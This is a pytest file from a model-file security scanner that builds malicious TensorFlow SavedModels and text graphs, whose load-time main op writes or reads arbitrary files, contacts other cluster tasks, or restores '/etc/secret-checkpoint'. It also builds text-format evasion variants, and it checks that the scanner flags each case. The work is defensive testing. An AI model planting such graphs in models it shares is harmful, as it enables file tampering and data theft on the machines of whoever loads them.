"""Round 18 red team: TensorFlow graphs (SavedModel, TF1 meta graphs, text graphs).

Each attack scanned ``clean`` before this round. The SavedModels are written here with a small protobuf wire
encoder (field numbers from tensorflow's saved_model.proto, meta_graph.proto, graph.proto, node_def.proto,
attr_value.proto, tensor.proto); TensorFlow is not needed for the scan assertions. The TF1 SavedModels carry a
``saved_model_main_op``, which ``tf.saved_model.load`` and ``tf.compat.v1.saved_model.loader.load`` run at load.
With TensorFlow installed, the real loader confirms each in a child process: a write creates a marker file, a read
opens a FIFO (the test sees a reader appear on it). Confirmed with tensorflow-cpu 2.21.0.
"""

from __future__ import annotations

import os
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from loopwarden.checks.models.scanner import scan_paths
from loopwarden.domain import Severity, Verdict

TF_OP = "LW-MODEL-046"

# --- a protobuf wire encoder -------------------------------------------------------------------------------------


def _varint(n: int) -> bytes:
    n &= (1 << 64) - 1
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def _len(num: int, payload: bytes | str) -> bytes:
    data = payload.encode() if isinstance(payload, str) else payload
    return _varint(num << 3 | 2) + _varint(len(data)) + data


def _int(num: int, value: int) -> bytes:
    return _varint(num << 3) + _varint(value)


def _attr(key: str, value: bytes) -> bytes:
    return _len(5, _len(1, key) + _len(2, value))


def _s(text: str) -> bytes:
    """AttrValue{2 s}."""
    return _len(2, text)


def _i(value: int) -> bytes:
    """AttrValue{3 i}."""
    return _int(3, value)


def _b(value: bool) -> bytes:
    """AttrValue{5 b}."""
    return _int(5, int(value))


def _f(value: float) -> bytes:
    """AttrValue{4 f}."""
    import struct

    return _varint(4 << 3 | 5) + struct.pack("<f", value)


def _type(dtype: int) -> bytes:
    """AttrValue{6 type}."""
    return _int(6, dtype)


def _list(*items: bytes) -> bytes:
    """AttrValue{1 list: ListValue{...}}."""
    return _len(1, b"".join(items))


def _str_list(*values: str) -> bytes:
    return _list(*(_len(2, v) for v in values))


def _type_list(*dtypes: int) -> bytes:
    return _list(*(_int(6, d) for d in dtypes))


def _scalar_shapes(count: int) -> bytes:
    """AttrValue{1 list: ListValue{7 shape: TensorShapeProto{}}} of scalars."""
    return _list(*(_len(7, b"") for _ in range(count)))


_STRING, _INT64, _FLOAT, _VARIANT = 7, 9, 1, 21


def _string_tensor(value: bytes | str) -> bytes:
    """AttrValue{8 tensor: TensorProto{1 dtype, 2 tensor_shape, 8 string_val}}."""
    return _len(8, _int(1, _STRING) + _len(2, b"") + _len(8, value))


def _int64_tensor(value: int) -> bytes:
    """AttrValue{8 tensor: TensorProto{1 dtype, 2 tensor_shape, 10 int64_val}}."""
    return _len(8, _int(1, _INT64) + _len(2, b"") + _int(10, value))


def _float_tensor(value: float) -> bytes:
    import struct

    return _len(8, _int(1, _FLOAT) + _len(2, b"") + _varint(5 << 3 | 5) + struct.pack("<f", value))


def node(name: str, op: str, *inputs: str, **attrs: bytes) -> bytes:
    """NodeDef{1 name, 2 op, 3 input, 5 attr}."""
    return (
        _len(1, name)
        + _len(2, op)
        + b"".join(_len(3, i) for i in inputs)
        + b"".join(_attr(k, v) for k, v in attrs.items())
    )


def const(name: str, value: bytes | str) -> bytes:
    return node(name, "Const", dtype=_type(_STRING), value=_string_tensor(value))


def int_const(name: str, value: int) -> bytes:
    return node(name, "Const", dtype=_type(_INT64), value=_int64_tensor(value))


def graph(*nodes: bytes, producer: int = 1987) -> bytes:
    """GraphDef{1 node, 4 versions: VersionDef{1 producer}}."""
    return b"".join(_len(1, n) for n in nodes) + _len(4, _int(1, producer))


def tf1_saved_model(graph_def: bytes, main_op: str = "main_op") -> bytes:
    """SavedModel{1 schema version, 2 MetaGraphDef{1 meta_info_def{4 tags}, 2 graph_def, 4 collection_def
    {"saved_model_main_op": CollectionDef{1 node_list{1 value}}}}}: the loader runs the main op at load."""
    collection = _len(4, _len(1, "saved_model_main_op") + _len(2, _len(1, _len(1, main_op))))
    meta = _len(1, _len(4, "serve") + _len(5, "2.21.0")) + _len(2, graph_def) + collection
    return _int(1, 1) + _len(2, meta)


def _main_after(*deps: str) -> bytes:
    return node("main_op", "NoOp", *(f"^{d}" for d in deps))


# --- the attacks -------------------------------------------------------------------------------------------------

MARKER = "/tmp/tf18-marker"
"""The path the write attacks write at (the confirmation rewrites it to a temporary path)."""
SOURCE = "/tmp/tf18-source"
"""The path the read attacks read (the confirmation makes it a FIFO and watches for a reader)."""


def dataset_from_graph_graph(path: str = MARKER) -> bytes:
    """The GraphDef DatasetFromGraph runs (GraphRunner, dataset_ops.cc): a WriteFile the dataset node waits for,
    and the _Retval that names the output."""
    return graph(
        const("fname", path),
        const("data", "written by a graph inside a string tensor"),
        node("write", "WriteFile", "fname", "data"),
        int_const("start", 0),
        int_const("stop", 1),
        int_const("step", 1),
        node(
            "ds",
            "RangeDataset",
            "start",
            "stop",
            "step",
            "^write",
            output_types=_type_list(_INT64),
            output_shapes=_scalar_shapes(1),
        ),
        node("ret", "_Retval", "ds", T=_type(_VARIANT), index=_i(0)),
    )


def dataset_from_graph(path: str = MARKER) -> bytes:
    return tf1_saved_model(
        graph(
            const("serialized", dataset_from_graph_graph(path)),
            node("dfg", "DatasetFromGraph", "serialized"),
            # a stateful consumer: grappler drops control dependencies on stateless nodes
            node(
                "iterator",
                "IteratorV2",
                shared_name=_s(""),
                container=_s(""),
                output_types=_type_list(_INT64),
                output_shapes=_scalar_shapes(1),
            ),
            node("make", "MakeIterator", "dfg", "iterator"),
            _main_after("make"),
        )
    )


def dump_tensor(path: str = MARKER) -> bytes:
    folder, name = os.path.split(path)
    return tf1_saved_model(
        graph(
            node("x", "Const", dtype=_type(_FLOAT), value=_float_tensor(1.0)),
            node(
                "dump",
                "DumpTensor",
                "x",
                T=_type(_FLOAT),
                log_dir_path=_s(folder),
                file_name=_s(name),
                tensor_name=_s("x"),
                func_name=_s("f"),
                node_name=_s("n"),
                enabled=_b(True),
            ),
            _main_after("dump"),
        )
    )


def calibration_saver(path: str = MARKER) -> bytes:
    return tf1_saved_model(
        graph(
            node(
                "calib",
                "CalibrationStatisticsSaver",
                Tin=_type_list(),
                output_file_path=_s(path),
                ids=_str_list("x"),
                calibration_methods=_list(_int(3, 1)),
            ),
            _main_after("calib"),
        )
    )


def skipgram(path: str = SOURCE) -> bytes:
    """Skipgram is deprecated from GraphDef version 19: a graph produced by version 18 may still use it."""
    return tf1_saved_model(
        graph(
            node(
                "sg",
                "Skipgram",
                filename=_s(path),
                batch_size=_i(2),
                window_size=_i(1),
                min_count=_i(1),
                subsample=_f(0.001),
            ),
            _main_after("sg"),
            producer=18,
        )
    )


def fixed_unigram(path: str = SOURCE) -> bytes:
    return tf1_saved_model(
        graph(
            node(
                "classes",
                "Const",
                dtype=_type(_INT64),
                value=_len(
                    8, _int(1, _INT64) + _len(2, _len(2, _int(1, 1)) + _len(2, _int(1, 1))) + _int(10, 0)
                ),
            ),
            node(
                "sampler",
                "FixedUnigramCandidateSampler",
                "classes",
                num_true=_i(1),
                num_sampled=_i(1),
                unique=_b(True),
                range_max=_i(1),
                vocab_file=_s(path),
            ),
            _main_after("sampler"),
        )
    )


def _consume(dataset_node: bytes, op_name: str, path: str) -> bytes:
    """A dataset node and a DatasetToSingleElement over it that the main op waits for."""
    return graph(
        const("path", path),
        dataset_node,
        node(
            "one",
            "DatasetToSingleElement",
            op_name,
            output_types=_type_list(_STRING),
            output_shapes=_scalar_shapes(1),
        ),
        _main_after("one"),
    )


def snapshot_chunk(path: str = SOURCE) -> bytes:
    return tf1_saved_model(
        _consume(
            node(
                "ds",
                "SnapshotChunkDataset",
                "path",
                output_types=_type_list(_STRING),
                output_shapes=_scalar_shapes(1),
                compression=_s(""),
            ),
            "ds",
            path,
        )
    )


def list_snapshot_chunks(path: str = SOURCE) -> bytes:
    return tf1_saved_model(
        _consume(
            node(
                "ds",
                "ListSnapshotChunksDataset",
                "path",
                output_types=_type_list(_STRING),
                output_shapes=_scalar_shapes(1),
            ),
            "ds",
            path,
        )
    )


def remote_call(target: str = "/job:worker/replica:0/task:1/device:CPU:0") -> bytes:
    """RemoteCall runs its function on the target device: another task's when the loading process belongs to a
    cluster (a worker of a multi-worker job that loads a model)."""
    fn = _len(1, _len(1, "remote_fn"))
    g = graph(
        const("target", target),
        node(
            "call",
            "RemoteCall",
            "target",
            Tin=_type_list(),
            Tout=_type_list(),
            f=_len(10, _len(1, "remote_fn")),
        ),
        _main_after("call"),
    )
    g += _len(2, _len(1, fn))
    return tf1_saved_model(g)


def send_to(device: str) -> bytes:
    return tf1_saved_model(
        graph(
            const("x", "tensor"),
            node(
                "send",
                "_Send",
                "x",
                T=_type(_STRING),
                tensor_name=_s("edge_1"),
                send_device=_s("/job:localhost/replica:0/task:0/device:CPU:0"),
                send_device_incarnation=_i(1),
                recv_device=_s(device),
                client_terminated=_b(False),
            ),
            _main_after("send"),
        )
    )


def configure_tpu() -> bytes:
    return tf1_saved_model(graph(node("tpu", "ConfigureDistributedTPU"), _main_after("tpu")))


def dtensor_restore() -> bytes:
    return tf1_saved_model(
        graph(
            const("prefix", "/etc/secret-checkpoint"),
            node("restore", "DTensorRestoreV2", "prefix"),
            _main_after("restore"),
        )
    )


# --- text format -------------------------------------------------------------------------------------------------


def _text_escape(text: str) -> str:
    return text.replace("\\", "\\\\").replace('"', '\\"')


def pbtxt_saved_model(path: str = MARKER, *, op: str = '"WriteFile"', style: str = "plain") -> bytes:
    """saved_model.pbtxt: what tf.saved_model.load reads when the folder has no saved_model.pb."""
    fname = (
        f'node {{ name: "fname" op: "Const" attr {{ key: "dtype" value {{ type: DT_STRING }} }} '
        f'attr {{ key: "value" value {{ tensor {{ dtype: DT_STRING tensor_shape {{ }} string_val: '
        f'"{_text_escape(path)}" }} }} }} }}'
    )
    write = f'node {{ name: "write" op: {op} input: "fname" input: "fname" }}'
    main = 'node { name: "main_op" op: "NoOp" input: "^write" }'
    nodes = f"{fname}\n    {write}\n    {main}"
    if style == "angle":
        nodes = nodes.replace("{", "<").replace("}", ">")
    elif style == "list":
        nodes = "node: [" + ", ".join(n.removeprefix("node ") for n in (fname, write, main)) + "]"
    text = (
        "# a SavedModel in text format\n"
        "saved_model_schema_version: 1\n"
        "meta_graphs {\n"
        '  meta_info_def { tags: "serve" tensorflow_version: "2.21.0" }\n'
        f"  graph_def {{\n    {nodes}\n    versions {{ producer: 1987 }}\n  }}\n"
        '  collection_def { key: "saved_model_main_op" value { node_list { value: "main_op" } } }\n'
        "}\n"
    )
    return text.encode()


def pbtxt_meta_graph(path: str = MARKER) -> bytes:
    """A text MetaGraphDef (tf.train.import_meta_graph reads a .meta file as text when it is no binary proto)."""
    text = pbtxt_saved_model(path).decode()
    inner = text.split("meta_graphs {\n", 1)[1].rsplit("}", 1)[0]
    return ("# text meta graph\n" + inner).encode()


def pbtxt_graph(path: str = MARKER) -> bytes:
    """A text GraphDef (graph.pbtxt, as tf.io.write_graph(as_text=True) writes it)."""
    text = pbtxt_saved_model(path).decode()
    inner = text.split("graph_def {\n", 1)[1].split("\n  }\n", 1)[0]
    return inner.encode()


def _attacks() -> dict[str, dict[str, bytes]]:
    return {
        "r18_tf_pbtxt_saved_model_writefile": {"saved_model.pbtxt": pbtxt_saved_model()},
        "r18_tf_pbtxt_meta_graph_writefile": {"model.ckpt.meta": pbtxt_meta_graph()},
        "r18_tf_pbtxt_graph_writefile": {"graph.pbtxt": pbtxt_graph()},
        "r18_tf_dataset_from_graph": {"saved_model.pb": dataset_from_graph()},
        "r18_tf_dump_tensor": {"saved_model.pb": dump_tensor()},
        "r18_tf_calibration_saver": {"saved_model.pb": calibration_saver()},
        "r18_tf_skipgram": {"saved_model.pb": skipgram()},
        "r18_tf_fixed_unigram_vocab": {"saved_model.pb": fixed_unigram()},
        "r18_tf_snapshot_chunk": {"saved_model.pb": snapshot_chunk()},
        "r18_tf_list_snapshot_chunks": {"saved_model.pb": list_snapshot_chunks()},
        "r18_tf_remote_call": {"saved_model.pb": remote_call()},
        "r18_tf_send_to_other_job": {"saved_model.pb": send_to("/job:ps/replica:0/task:0/device:CPU:0")},
        "r18_tf_configure_tpu": {"saved_model.pb": configure_tpu()},
        "r18_tf_dtensor_restore": {"saved_model.pb": dtensor_restore()},
    }


def bench_cases() -> dict[str, dict[str, bytes]]:
    return _attacks()


_EXPECTED: dict[str, tuple[str, Severity]] = {
    "r18_tf_pbtxt_saved_model_writefile": ("WriteFile", Severity.HIGH),
    "r18_tf_pbtxt_meta_graph_writefile": ("WriteFile", Severity.HIGH),
    "r18_tf_pbtxt_graph_writefile": ("WriteFile", Severity.HIGH),
    "r18_tf_dataset_from_graph": ("DatasetFromGraph", Severity.HIGH),
    "r18_tf_dump_tensor": ("DumpTensor", Severity.HIGH),
    "r18_tf_calibration_saver": ("CalibrationStatisticsSaver", Severity.HIGH),
    "r18_tf_skipgram": ("Skipgram", Severity.HIGH),
    "r18_tf_fixed_unigram_vocab": ("FixedUnigramCandidateSampler", Severity.MEDIUM),
    "r18_tf_snapshot_chunk": ("SnapshotChunkDataset", Severity.HIGH),
    "r18_tf_list_snapshot_chunks": ("ListSnapshotChunksDataset", Severity.HIGH),
    "r18_tf_remote_call": ("RemoteCall", Severity.MEDIUM),
    "r18_tf_send_to_other_job": ("_Send", Severity.MEDIUM),
    "r18_tf_configure_tpu": ("ConfigureDistributedTPU", Severity.MEDIUM),
    "r18_tf_dtensor_restore": ("DTensorRestoreV2", Severity.MEDIUM),
}


def _scan_folder(tmp_path: Path, files: dict[str, bytes]) -> dict[str, tuple[Verdict, dict[str, Severity]]]:
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    out = {}
    for target in scan_paths([str(tmp_path)], jobs=1).targets:
        ops = {str(f.evidence.get("op")): f.severity for f in target.findings if f.rule_id == TF_OP}
        out[Path(target.path).name] = (target.verdict, ops)
    return out


@pytest.mark.parametrize("case", sorted(_attacks()))
def test_attack_is_reported(case: str, tmp_path: Path) -> None:
    """Every case scanned clean before this round (no op of them was judged; text graphs were read as plain
    text). Each is now LW-MODEL-046 with the op and the severity of what it does."""
    files = _attacks()[case]
    op, severity = _EXPECTED[case]
    results = _scan_folder(tmp_path, files)
    ((name, _),) = files.items()
    verdict, ops = results[name]
    assert verdict is not Verdict.CLEAN
    assert ops.get(op) == severity, ops


@pytest.mark.parametrize(
    "variant",
    [
        pbtxt_saved_model(style="angle"),
        pbtxt_saved_model(style="list"),
        pbtxt_saved_model(op='"Write" "File"'),
        pbtxt_saved_model(op='"\\127rite\\x46ile"'),
        pbtxt_saved_model(op="'WriteFile'"),
        pbtxt_saved_model().replace(b"saved_model_schema_version: 1\n", b"")
        + b"saved_model_schema_version: 1 # last\n",
        pbtxt_saved_model().replace(b"node {", b"node: {").replace(b"\n", b"\n# comment {\n"),
    ],
)
def test_text_graph_syntax_variants_are_reported(variant: bytes, tmp_path: Path) -> None:
    """protobuf's text format: <> for {}, lists of messages, adjacent strings, octal and hex escapes, single
    quotes, fields in any order, optional ':' before a message, comments; all parse in text_format.Parse."""
    results = _scan_folder(tmp_path, {"saved_model.pbtxt": variant})
    verdict, ops = results["saved_model.pbtxt"]
    assert ops.get("WriteFile") == Severity.HIGH, (verdict, ops)


@pytest.mark.parametrize(
    "text",
    [
        b"version: 1\nname: my-config\n",
        b'item {\n  name: "/m/01g317"\n  id: 1\n  display_name: "person"\n}\n',
        b'input_stream: "in"\nnode {\n  calculator: "PassThroughCalculator"\n  input_stream: "in"\n}\n',
        b"node:\n  - a\n  - b\n",
        b"# notes\nlibrary: numpy\nversions: [1, 2]\n",
    ],
)
def test_other_text_stays_clean(text: bytes, tmp_path: Path) -> None:
    """Label maps, MediaPipe graphs, YAML: text that is no TensorFlow graph is not judged as one."""
    results = _scan_folder(tmp_path, {"config.pbtxt": text})
    verdict, ops = results["config.pbtxt"]
    assert not ops
    assert verdict is Verdict.CLEAN


def test_text_graph_of_plain_ops_is_clean(tmp_path: Path) -> None:
    text = pbtxt_saved_model(op='"Identity"').replace(b'input: "fname" input: "fname"', b'input: "fname"')
    results = _scan_folder(tmp_path, {"saved_model.pbtxt": text})
    assert results["saved_model.pbtxt"] == (Verdict.CLEAN, {})


def test_broken_text_graph_is_unverified(tmp_path: Path) -> None:
    """Text that opens as a SavedModel and breaks off (a message left open) is refused by the loader too."""
    text = pbtxt_saved_model().rstrip().removesuffix(b"}")
    results = _scan_folder(tmp_path, {"saved_model.pbtxt": text})
    assert results["saved_model.pbtxt"][0] is not Verdict.CLEAN


@pytest.mark.parametrize(
    "device",
    ["/job:localhost/replica:0/task:0/device:CPU:0", "/device:CPU:0", ""],
)
def test_local_send_and_remote_call_stay_clean(device: str, tmp_path: Path) -> None:
    """The loading process's own devices: no other task is reached."""
    results = _scan_folder(tmp_path, {"saved_model.pb": send_to(device)})
    assert results["saved_model.pb"] == (Verdict.CLEAN, {})
    (tmp_path / "saved_model.pb").unlink()
    results = _scan_folder(tmp_path, {"saved_model.pb": remote_call(device)})
    assert results["saved_model.pb"] == (Verdict.CLEAN, {})


def test_sampler_without_vocabulary_file_is_clean(tmp_path: Path) -> None:
    """The sampler's distribution from its unigrams attribute (vocab_file empty): no file is read."""
    results = _scan_folder(tmp_path, {"saved_model.pb": fixed_unigram("")})
    assert results["saved_model.pb"] == (Verdict.CLEAN, {})


# --- the real loader ---------------------------------------------------------------------------------------------

_LOAD = """
import sys
import tensorflow as tf
try:
    tf.saved_model.load(sys.argv[1])
except Exception as exc:
    print("load failed:", type(exc).__name__, str(exc)[:300])
"""


_LOAD_V1 = """
import sys
import tensorflow as tf
tf.compat.v1.disable_eager_execution()
with tf.compat.v1.Session(graph=tf.Graph()) as session:
    try:
        tf.compat.v1.saved_model.loader.load(session, ["serve"], sys.argv[1])
    except Exception as exc:
        print("load failed:", type(exc).__name__, str(exc)[:300])
"""


def _load(folder: Path, script: str = _LOAD) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "TF_CPP_MIN_LOG_LEVEL": "3", "CUDA_VISIBLE_DEVICES": ""}
    return subprocess.run(
        [sys.executable, "-c", script, str(folder)], capture_output=True, text=True, timeout=300, env=env
    )


@pytest.mark.parametrize(
    "build",
    [dataset_from_graph, dump_tensor, calibration_saver, lambda p: pbtxt_saved_model(p)],
    ids=["DatasetFromGraph", "DumpTensor", "CalibrationStatisticsSaver", "pbtxt"],
)
def test_tensorflow_writes_the_marker(build: Callable[[str], bytes], tmp_path: Path) -> None:
    pytest.importorskip("tensorflow")
    marker = tmp_path / "marker"
    folder = tmp_path / "model"
    folder.mkdir()
    data = build(str(marker))
    (folder / ("saved_model.pbtxt" if data[:1] == b"#" else "saved_model.pb")).write_bytes(data)
    done = _load(folder)
    assert marker.exists(), done.stdout + done.stderr[-2000:]


@pytest.mark.parametrize("build", [skipgram, fixed_unigram], ids=["Skipgram", "Unigram"])
def test_tensorflow_opens_the_file(build: Callable[[str], bytes], tmp_path: Path) -> None:
    """The path is a FIFO: a writer can open it (without blocking) only once the loader opened it to read. The TF1
    loader keeps the graph's producer version, so it runs Skipgram (tf.saved_model.load re-imports the graph at
    the current version, where Skipgram is refused)."""
    pytest.importorskip("tensorflow")
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    folder = tmp_path / "model"
    folder.mkdir()
    data = build(str(fifo))
    (folder / "saved_model.pb").write_bytes(data)
    opened = threading.Event()

    def watch() -> None:
        deadline = time.monotonic() + 280
        while time.monotonic() < deadline:
            try:
                fd = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                time.sleep(0.05)
                continue
            opened.set()
            os.write(fd, b"a 1\nb 2\n")
            os.close(fd)
            return

    t = threading.Thread(target=watch, daemon=True)
    t.start()
    done = _load(folder, _LOAD_V1)
    assert opened.wait(5), done.stdout + done.stderr[-2000:]
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)


# --- benign text graphs written by TensorFlow --------------------------------------------------------------------

_FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "tensorflow"

_TO_TEXT = """
import sys
from google.protobuf import text_format
from tensorflow.core.protobuf import saved_model_pb2
import tensorflow as tf

out = sys.argv[1]
for name in sys.argv[2:]:
    sm = saved_model_pb2.SavedModel()
    sm.ParseFromString(open(name, "rb").read())
    stem = name.rsplit("/", 1)[-1].removesuffix(".pb")
    open(f"{out}/{stem}.pbtxt", "w").write(text_format.MessageToString(sm))

g = tf.Graph()
with g.as_default():
    x = tf.compat.v1.placeholder(tf.float32, [None, 4], name="x")
    w = tf.Variable(tf.ones([4, 2]), name="w")
    y = tf.identity(tf.matmul(x, w), name="y")
    tf.io.write_graph(g.as_graph_def(), out, "graph.pbtxt", as_text=True)
    saver = tf.compat.v1.train.Saver()
    tf.compat.v1.train.export_meta_graph(f"{out}/model.meta", graph=g, saver_def=saver.as_saver_def(), as_text=True)
"""


def test_text_graphs_written_by_tensorflow_stay_clean(tmp_path: Path) -> None:
    """The fixtures' SavedModels (saver functions, an asset-backed table) as text, a TF1 graph written by
    tf.io.write_graph(as_text=True) and a text meta graph with its saver (export_meta_graph(as_text=True)). (A bare
    GraphDef holding a save/ scope has no saver_def to exempt it, binary or text: its RestoreV2 is reported as
    before this round.)"""
    pytest.importorskip("tensorflow")
    fixtures = [str(_FIXTURES / n) for n in ("module_saved_model.pb", "lookup_saved_model.pb")]
    env = {**os.environ, "TF_CPP_MIN_LOG_LEVEL": "3", "CUDA_VISIBLE_DEVICES": ""}
    done = subprocess.run(
        [sys.executable, "-c", _TO_TEXT, str(tmp_path), *fixtures],
        capture_output=True,
        text=True,
        timeout=300,
        env=env,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    names = {"module_saved_model.pbtxt", "lookup_saved_model.pbtxt", "graph.pbtxt", "model.meta"}
    assert names <= {p.name for p in tmp_path.iterdir()}
    for target in scan_paths([str(tmp_path)], jobs=1).targets:
        assert target.verdict is Verdict.CLEAN, (target.path, target.findings)
    assert any(b"StatefulPartitionedCall" in (tmp_path / n).read_bytes() for n in names)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("saved_model.pbtxt", pbtxt_saved_model().split(b"\n", 1)[1]),  # opens with "s", a pickle opcode
        ("model.ckpt.meta", pbtxt_meta_graph().split(b"\n", 1)[1].lstrip()),
        ("frozen.pb", pbtxt_graph().lstrip()),
        ("saved_model.pbtxt", pbtxt_saved_model().replace(b"\n", b"\r\n")),
    ],
)
def test_text_graphs_are_judged_whatever_they_open_with(name: str, data: bytes, tmp_path: Path) -> None:
    """No comment first: the first field's name (some open like pickle opcodes), any file name, CRLF lines."""
    results = _scan_folder(tmp_path, {name: data})
    assert results[name][1].get("WriteFile") == Severity.HIGH, results
